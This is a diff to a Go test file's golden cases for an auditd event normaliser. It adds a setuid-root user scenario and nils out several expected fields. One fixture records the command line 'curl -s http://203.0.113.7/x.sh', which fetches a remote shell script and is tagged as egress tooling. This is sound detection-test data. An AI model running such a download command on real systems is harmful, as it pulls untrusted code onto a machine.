@@ -75,8 +75,10 @@ var goldenCases = []struct {
 				{EntityID: "web-01/1/1795740000000", PID: 1, Executable: "/usr/lib/systemd/systemd", Args: []string{"/usr/lib/systemd/systemd", "--system"}, UserID: "0"},
 			},
 			User: event.User{
-				ID: "1000", Name: "alice", EffectiveID: "1000", SavedID: "1000",
-				FilesysID: "1000", AuditID: "1000", GroupID: "1000", EffGroupID: "1000",
+				// A setuid-root program run by alice: the effective,
+				// saved and filesystem ids differ from the real ones.
+				ID: "1000", Name: "alice", EffectiveID: "0", SavedID: "0",
+				FilesysID: "0", AuditID: "1000", GroupID: "1000", EffGroupID: "1000",
 			},
 			Audit: &event.Audit{
 				Sequence:    81234,
@@ -106,14 +108,15 @@ var goldenCases = []struct {
 			"lineaged.ancestry.2":            map[string]any{"pid": 900.0, "unknown": true},
 			"process.command_line":           "curl -s http://203.0.113.7/x.sh ",
 			"user.audit.id":                  "1000",
-			"user.effective.id":              "1000",
+			"user.effective.id":              "0",
 			"user.effective.group.id":        "1000",
-			"auditd.data.fsuid":              "1000",
+			"auditd.data.fsuid":              nil, // the same as the euid
+			"process.saved_user.id":          nil, // the same as the euid
 			"auditd.sequence":                81234.0,
 			"auditd.session":                 "3",
 			"auditd.data.syscall":            "execve",
 			"auditd.data.argc":               "4",
-			"auditd.record_types.4":          "PROCTITLE",
+			"auditd.record_types":            nil, // output.record_types off
 			"tags":                           []any{"exec", "egress-tools"},
 		},
 	},
@@ -214,10 +217,10 @@ var goldenCases = []struct {
 			"file.inode":              "1835017",
 			"file.mode":               "0100640",
 			"file.gid":                "42",
-			"auditd.path.nametype":    "NORMAL",
+			"auditd.path.nametype":    nil, // NORMAL, the usual one, is left out
 			"container.id":            "3f1e0c9a2b7d",
 			"user.audit.id":           "1001",
-			"user.effective":          map[string]any{"id": "0"},
+			"user.effective":          nil, // the same as the real ids
 			"tags":                    []any{"identity"},
 		},
 	},
@@ -274,7 +277,7 @@ var goldenCases = []struct {
 		paths: map[string]any{
 			"process":             map[string]any{"pid": 4242.0, "exit_code": 0.0, "parent": map[string]any{"pid": 4100.0}},
 			"auditd.unparsed.1":   "",
-			"auditd.record_types": []any{"PROC_EXIT"},
+			"auditd.record_types": nil, // output.record_types off
 		},
 	},
 	{
